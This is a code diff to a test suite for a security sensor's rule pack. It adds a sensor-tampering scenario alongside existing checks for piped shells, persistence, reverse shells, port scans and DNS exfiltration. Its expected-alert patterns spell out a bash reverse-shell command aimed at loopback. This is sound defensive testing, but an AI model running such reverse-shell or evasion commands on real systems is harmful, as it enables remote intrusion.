@@ -45,7 +45,7 @@ describe.skipIf(skip !== null)('the rule pack under the live sensor', () => {
   const scenario = async (name: string): Promise<number> => {
     const { stdout } = await execFileAsync(agent(), [name], {
       encoding: 'utf8', timeout: 30_000,
-      env: { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: home, PROJ: proj, DIR: dir, ...Object.fromEntries(Object.entries(ports).map(([k, v]) => [k, String(v)])) },
+      env: { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: home, PROJ: proj, DIR: dir, STATE: stateDir, ...Object.fromEntries(Object.entries(ports).map(([k, v]) => [k, String(v)])) },
     });
     return Number(stdout.trim().split('\n').at(-1));
   };
@@ -171,7 +171,7 @@ describe.skipIf(skip !== null)('the rule pack under the live sensor', () => {
     expect(await judged(await scenario('curlsh'), ['pipe_shell'])).toEqual(['pipe_shell']);
   }, 120_000);
 
-  it('history wiped; persistence planted; a reverse shell; a port scan; DNS labels carrying data to a loopback resolver', async () => {
+  it('history wiped; persistence planted; a reverse shell; the sensor\'s state touched; a port scan; DNS labels carrying data to a loopback resolver', async () => {
     expect(await judged(await scenario('history'), ['defence_evasion'])).toEqual(['defence_evasion']);
     writeFileSync(join(home, '.profile'), '# rc\n');
     const persist = await scenario('persist');
@@ -182,6 +182,12 @@ describe.skipIf(skip !== null)('the rule pack under the live sensor', () => {
     expect(alerts().filter((a) => a.agentPid === shell && a.rule === 'reverse_shell').map((a) => `${a.severity} ${a.summary}`).sort()).toEqual([
       expect.stringMatching(/^critical rulesagent: reverse shell connected to 127\.0\.0\.1:\d+: a shell with its input and output on the network: bash -c bash -i >& /),
       expect.stringMatching(/^high rulesagent ran bash -c bash -i >& \/dev\/tcp\/127\.0\.0\.1\/\d+ 0>&1: a shell with its input and output on the network/),
+    ]);
+    const tamper = await scenario('tamper'); // the collector protects its own --state-dir
+    expect(await judged(tamper, ['sensor_tamper'])).toEqual(['sensor_tamper']);
+    // one alert per path (its delete is a repeat of it)
+    expect(alerts().filter((a) => a.agentPid === tamper).map((a) => a.summary)).toEqual([
+      expect.stringMatching(/opened for writing .*\/state\/agent-was-here: the sensor's own files .* by bash/),
     ]);
     const scan = await scenario('scan');
     expect(await judged(scan, ['network_scan'])).toContain('network_scan');
